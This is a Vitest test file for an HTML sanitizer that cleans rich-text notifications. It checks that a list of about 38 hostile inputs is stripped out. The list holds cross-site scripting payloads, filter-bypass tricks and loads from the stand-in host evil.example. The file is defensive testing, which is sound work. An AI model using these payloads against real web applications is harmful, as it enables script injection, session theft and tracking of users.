import { describe, expect, it } from 'vitest'
import { isEmptyHtml, plainOf, safeHtml } from './notification.rules.ts'

const PIXEL = 'data:image/png;base64,iVBORw0KGgo='
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR = "alert(1)">',
  `<img src="${PIXEL}" onload="alert(1)">`,
  '<img src="https://evil.example/track.png">',
  '<img src="//evil.example/track.png">',
  '<img src="/\\evil.example/track.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src=1 srcset="https://evil.example/a.png 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:red;behavior:url(x.htc)">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p id="root" class="ant-modal" name="getElementById">x</p>',
  '"><img src=x onerror=alert(1)><"',
]

describe('what is stored of an HTML text', () => {
  it.each(HOSTILE)('holds nothing that runs or loads: %s', (html) => {
    const safe = safeHtml(`<p>before</p>${html}<p>after</p>`)
    const tags = safe.match(/<[^>]*>/g)?.join('') ?? ''
    expect(tags).not.toMatch(
      /<\/?(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|video|audio|details|marquee|template|noscript)\b/i,
    )
    expect(tags).not.toMatch(
      /\son\w+\s*=|javascript:|vbscript:|data:(?!image\/(png|jpe?g|gif|webp);base64)|srcset|srcdoc/i,
    )
    expect(tags).not.toMatch(/expression|behavior|url\(|position|\b(id|class|name)=/i)
    expect(tags).not.toMatch(/src="(https?:|\/\/|\/\\)/i)
    // A second time there is nothing left to take out.
    expect(safeHtml(safe)).toBe(safe)
  })

  it('keeps what the editor makes', () => {
    const html = [
      '<h2 style="text-align:center">停水通知</h2>',
      '<p><strong>明天</strong>，<span style="color:#cf1322;font-size:18pt">全楼</span><br />停水。</p>',
      '<ul><li>一</li><li>二</li></ul>',
      '<table style="border-collapse:collapse;width:100%"><tbody><tr><td colspan="2">表</td></tr></tbody></table>',
      `<img src="${PIXEL}" alt="图" width="20" />`,
    ].join('')
    expect(safeHtml(html)).toBe(html)
    expect(safeHtml('<a href="https://a.example/?x=1">看</a>')).toBe(
      '<a href="https://a.example/?x=1" target="_blank" rel="noopener noreferrer">看</a>',
    )
  })

  it('reads as plain text on one line', () => {
    expect(plainOf('<h1>停水</h1><p>明天 8&nbsp;点<br>到 9 点</p><script>x</script>')).toBe('停水 明天 8 点 到 9 点')
    expect(plainOf('a &lt;b&gt; &amp; "c" &amp;lt;')).toBe('a <b> & "c" &lt;')
    expect([isEmptyHtml('<p>&nbsp;</p><br>'), isEmptyHtml(`<p><img src="${PIXEL}"></p>`), isEmptyHtml('x')]).toEqual([
      true,
      false,
      false,
    ])
  })
})
